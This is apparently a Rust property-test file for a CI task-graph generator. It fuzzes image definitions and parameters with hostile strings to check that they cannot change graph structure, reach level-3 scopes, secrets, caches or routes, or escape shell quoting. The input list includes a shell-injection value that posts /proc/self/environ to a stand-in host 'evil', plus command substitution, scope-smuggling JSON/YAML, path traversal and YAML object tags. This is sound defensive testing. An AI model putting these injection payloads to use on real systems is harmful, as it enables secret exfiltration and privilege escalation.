//! Laws: whatever definitions, settings, templates and parameters say.

use std::collections::BTreeMap;

use proptest::prelude::*;
use serde_json::Value;

use crate::definition::*;
use crate::full::{ImageTasks, full_task_graph};
use crate::graph::TaskGraph;
use crate::json;
use crate::parameters::Parameters;
use crate::task::Optimization;
use crate::templates::KindTemplates;
use crate::testing;

/// Text that somebody may try.
fn hostile() -> impl Strategy<Value = String> {
    prop_oneof![
        2 => proptest::sample::select(vec![
            "secrets:get:project/td/level-3/x",
            "project/td/level-3/x",
            "index.td.cache.level-3.images.v1.a.hash.b",
            "td-level-3-x",
            "td-3",
            "x';curl${IFS}-d@/proc/self/environ${IFS}evil;'",
            "a$(id)`id`|b",
            "-x",
            "{{run.level}}{{#each this}}",
            "<decision>",
            "{\"task-reference\": \"<build>\"}",
            "\"], \"scopes\": [\"*\"], \"x\": [\"",
            "x\n- scopes: ['*']\nlevel: 3",
            "../../level-3",
            "%2e%2e",
            "&x *x !!python/object",
            "\u{202e}\u{feff}",
            "",
        ]).prop_map(str::to_owned),
        1 => "\\PC{0,40}",
        1 => "[a-z0-9./_-]{1,30}",
    ]
}

/// Text short enough to stand in a route after encoding.
fn short() -> impl Strategy<Value = String> {
    prop_oneof![
        "\\PC{1,4}",
        Just("a.b".to_owned()),
        Just("3".to_owned()),
        Just("../3".to_owned())
    ]
}

prop_compose! {
    fn parameters()(
        texts in proptest::collection::vec(hostile(), 8),
        words in proptest::collection::vec(short(), 3),
        number in proptest::option::of(0u64..9),
        event in proptest::sample::select(vec![
            "github-push", "github-pull-request", "github-pull-request-untrusted", "github-issue-comment", "cron", "3",
        ]),
    ) -> Parameters {
        Parameters {
            base_ref: texts[0].clone(),
            base_repository: texts[1].clone(),
            base_rev: texts[2].clone(),
            head_ref: texts[3].clone(),
            head_repository: format!("https://github.com/{}", texts[4]),
            head_rev: words[0].clone(),
            moz_build_date: texts[5].clone(),
            owner: texts[6].clone(),
            project: words[1].clone(),
            pull_request_number: number,
            pushlog_id: words[2].clone(),
            repository_type: texts[7].clone(),
            tasks_for: event.to_owned(),
            ..testing::push(Level::One)
        }
    }
}

/// The fleet with somebody's texts wherever a definition takes text.
fn spoilt(texts: &[String]) -> Vec<ImageDefinition> {
    let mut images = testing::fleet();
    for (index, image) in images.iter_mut().enumerate() {
        let text = |offset: usize| texts[(index + offset) % texts.len()].clone();
        image.description = text(0);
        image.owner = text(1);
        image.definition = text(2);
        image.attributes = BTreeMap::from([("gui".to_owned(), AttributeValue::String(text(3)))]);
        image.scripts = vec![text(4)];
        if let Some(publish) = &mut image.publish {
            publish.family = Some(text(5));
            publish.labels = BTreeMap::from([(text(6), text(7))]);
        }
    }
    images
}

fn graph(
    images: &[ImageDefinition],
    texts: &[String],
    config: &ProjectConfig,
    parameters: &Parameters,
    templates: &KindTemplates,
) -> Result<TaskGraph, Vec<crate::TransformError>> {
    let tasks: Vec<ImageTasks<'_>> = images
        .iter()
        .map(|image| {
            let mut tasks = ImageTasks::new(image, &texts[0], testing::digests());
            tasks.reasons = BTreeMap::from([(Kind::Build, texts.to_vec())]);
            tasks
        })
        .collect();
    full_task_graph(&tasks, config, parameters, templates)
}

/// The form of a tree: keys, lengths and types, and no text.
fn form(value: &Value) -> Value {
    match value {
        Value::Object(map) => map
            .iter()
            .map(|(key, value)| (key.clone(), form(value)))
            .collect(),
        Value::Array(list) => list.iter().map(form).collect(),
        Value::String(_) => "text".into(),
        Value::Number(_) => "number".into(),
        other => other.clone(),
    }
}

fn forms(graph: &TaskGraph) -> Vec<Value> {
    graph.tasks().map(|task| form(&json::tree(task))).collect()
}

/// Written apart from the rules on purpose: the law must not lean on what it is to hold to account.
fn holds_nothing_of_level_3(graph: &TaskGraph) {
    for task in graph.tasks() {
        assert_ne!(task.kind, Kind::Publish, "{}", task.label);
        let queue = task.task.task_queue_id.to_string();
        assert!(queue.starts_with("td-1/"), "{queue}");
        for scope in &task.task.scopes {
            let legal = [
                "secrets:get:project/td/level-1/",
                "secrets:get:project/td/level-any/",
                "generic-worker:cache:td-level-1-",
                "docker-worker:cache:td-level-1-",
                "generic-worker:os-group:td-1/",
                "generic-worker:run-as-administrator:td-1/",
            ];
            assert!(
                legal.iter().any(|start| scope.starts_with(start)) && !scope.ends_with('*'),
                "{scope}"
            );
        }
        for route in &task.task.routes {
            let words: Vec<&str> = route.split('.').collect();
            assert!(!words.contains(&"level-3"), "{route}");
            match words[0] {
                "checks" | "tc-treeherder" => {}
                // Below the prefix comes the level or the pull request, and nothing of either comes before it.
                "index" => {
                    let caches: Vec<usize> = (1..words.len())
                        .filter(|index| words[*index] == "cache")
                        .collect();
                    assert_eq!(caches.len(), 1, "{route}");
                    assert!(matches!(words[caches[0] + 1], "level-1" | "pr"), "{route}");
                }
                _ => panic!("{route}"),
            }
        }
        for cache in task.task.payload.caches() {
            assert!(cache.starts_with("td-level-1-"), "{cache}");
        }
        if let Some(secrets) = task.task.payload.env().get("TASKGRAPH_IMAGES_SECRETS") {
            for secret in secrets.as_str().split(' ') {
                assert!(
                    secret.starts_with("project/td/level-1/")
                        || secret.starts_with("project/td/level-any/")
                );
            }
        }
        assert_eq!(task.task.payload.env()["MOZ_SCM_LEVEL"].as_str(), "1");
        assert!(matches!(
            task.optimization,
            Some(Optimization::IndexSearch(_))
        ));
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 200, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn texts_never_change_the_structure(
        texts in proptest::collection::vec(hostile(), 9),
        mut parameters in parameters(),
    ) {
        let (config, templates) = (testing::config(), KindTemplates::embedded());
        let (event, number) = (parameters.tasks_for.clone(), parameters.pull_request_number);
        let tame = Parameters { tasks_for: event, pull_request_number: number, ..testing::push(Level::One) };
        let mut names = testing::fleet();
        for image in &mut names {
            image.attributes = BTreeMap::from([("gui".to_owned(), AttributeValue::String(String::new()))]);
        }
        parameters.build_date = tame.build_date;
        let expect = graph(&names, &["tame".to_owned()], &config, &tame, &templates).unwrap();
        let found = graph(&spoilt(&texts), &texts, &config, &parameters, &templates);
        let found = found.map_err(|errors| TestCaseError::fail(format!("{errors:#?}")))?;
        prop_assert_eq!(forms(&found), forms(&expect));
        holds_nothing_of_level_3(&found);
        // What is written reads back as the same tree.
        let text = found.to_json();
        let read: BTreeMap<String, Value> = serde_json::from_str(&text).unwrap();
        for task in found.tasks() {
            prop_assert_eq!(&read[task.label.as_str()], &json::tree(task));
        }
    }

    #[test]
    fn no_names_reach_level_3(
        texts in proptest::collection::vec(hostile(), 9),
        secret in hostile(),
        provisioner in prop_oneof![Just("td-1".to_owned()), Just("td-3".to_owned()), hostile()],
        worker_type in prop_oneof![Just("image-builder".to_owned()), hostile()],
        prefix in prop_oneof![
            Just("td".to_owned()), Just("td.cache.level-3".to_owned()), Just("td.cache.pr".to_owned()), hostile(),
        ],
        group in prop_oneof![Just("kvm".to_owned()), hostile()],
        cache in prop_oneof![3 => Just("git".to_owned()), 1 => Just("level-3".to_owned()), 1 => hostile()],
        variable in prop_oneof![4 => Just("MINE".to_owned()), 1 => hostile()],
        number in proptest::option::of(0u64..9),
    ) {
        let parameters = Parameters { pull_request_number: number, ..testing::push(Level::One) };
        let mut config = testing::config();
        if let Ok(prefix) = IndexPath::new(&prefix) {
            config.index_prefix = prefix;
        }
        let alias = config.workers.get_mut("linux-builder").unwrap();
        alias.os_groups = vec![group];
        if let Ok(provisioner) = ProvisionerId::new(&provisioner) {
            config.provisioners.one.insert(ProvisionerId::new("td-3").unwrap());
            alias.provisioner = ByLevel::same(provisioner);
        }
        if let Ok(worker_type) = WorkerType::new(&worker_type) {
            alias.worker_type = ByLevel::same(worker_type);
        }
        let mut images = spoilt(&texts);
        if let Ok(secret) = SecretName::new(&secret) {
            for image in &mut images {
                image.build.secrets.push(secret.clone());
            }
        }
        let yaml = serde_json::json!({
            "description": "x",
            "command": ["{{tool}}"],
            "env": {variable: "{{description}}"},
            "caches": [{"name": cache, "path": "x"}],
        });
        let templates = KindTemplates::embedded().with_override(Kind::Build, &yaml.to_string());
        // A refusal is as good as a harmless task.
        if let Ok(templates) = templates
            && let Ok(graph) = graph(&images, &texts, &config, &parameters, &templates)
        {
            holds_nothing_of_level_3(&graph);
        }
    }

    #[test]
    fn quoted_words_survive_a_shell(text in "[^\u{0}]{0,40}") {
        let yaml = r#"{"description": "x", "command": ["bash", "-c", "run {{sh description}} end"]}"#;
        let templates = KindTemplates::embedded().with_override(Kind::Build, yaml).unwrap();
        let mut image = testing::image("a", "linux-builder");
        image.description = text.trim().to_owned();
        let images = [image];
        let found = graph(&images, &["x".to_owned()], &testing::config(), &testing::push(Level::One), &templates);
        let found = found.map_err(|errors| TestCaseError::fail(format!("{errors:#?}")))?;
        let build = found.get(&images[0].id.label(Kind::Build)).unwrap();
        let crate::Payload::GenericWorkerPosix(payload) = &build.task.payload else { unreachable!() };
        let line = shlex::split(&payload.command[1][2]).unwrap();
        prop_assert_eq!(line, ["run", text.trim(), "end"]);
    }
}

#[test]
fn a_pull_request_is_never_of_level_3() {
    let images = testing::fleet();
    for tasks_for in [
        "github-pull-request",
        "github-pull-request-untrusted",
        "github-issue-comment",
    ] {
        let parameters = Parameters {
            tasks_for: tasks_for.to_owned(),
            ..testing::push(Level::Three)
        };
        let errors = graph(
            &images,
            &["x".to_owned()],
            &testing::config(),
            &parameters,
            &KindTemplates::embedded(),
        )
        .unwrap_err();
        assert_eq!(
            errors[0].to_string(),
            format!(
                "`{tasks_for}` can never run at level 3; the level comes from the decision task's scopes, not from its \
                 parameters"
            )
        );
    }
}

#[test]
fn every_fault_is_reported() {
    let mut images = testing::fleet();
    images[0].build.worker = AliasName::new("unknown").unwrap();
    images[1].parent = Some("missing@google".parse().unwrap());
    images[2]
        .attributes
        .insert("kind".to_owned(), AttributeValue::Bool(true));
    let errors = graph(
        &images,
        &["x".to_owned()],
        &testing::config(),
        &testing::push(Level::One),
        &KindTemplates::embedded(),
    )
    .unwrap_err();
    let lines: Vec<String> = errors.iter().map(ToString::to_string).collect();
    insta::assert_snapshot!(lines.join("\n"), @r"
    `base@google`: build: unknown worker alias `unknown`; known are `containers`, `linux-builder`, `windows-builder`
    `child@google`: build: unknown parent image `missing@google`
    `win11@azure`: build: the attribute `kind` has a reserved name; rename it
    `win11@azure`: verify: the attribute `kind` has a reserved name; rename it
    ");
}

#[test]
fn a_fleet_of_a_thousand() {
    let images: Vec<_> = (0..1000)
        .map(|number| {
            let worker = ["linux-builder", "windows-builder", "containers"][number % 3];
            testing::image(&format!("image-{number}"), worker)
        })
        .collect();
    let (config, parameters, templates) = (
        testing::config(),
        testing::push(Level::Three),
        KindTemplates::embedded(),
    );
    let tasks = testing::tasks(&images);
    let start = std::time::Instant::now();
    let graph = full_task_graph(&tasks, &config, &parameters, &templates).unwrap();
    let rendered = start.elapsed();
    let bytes = graph.to_json().len();
    assert_eq!(graph.len(), 3000);
    #[expect(
        clippy::print_stderr,
        reason = "the measure is for whoever runs the test alone"
    )]
    {
        eprintln!(
            "3000 tasks: {rendered:?}; {bytes} bytes: {:?}",
            start.elapsed() - rendered
        );
    }
}
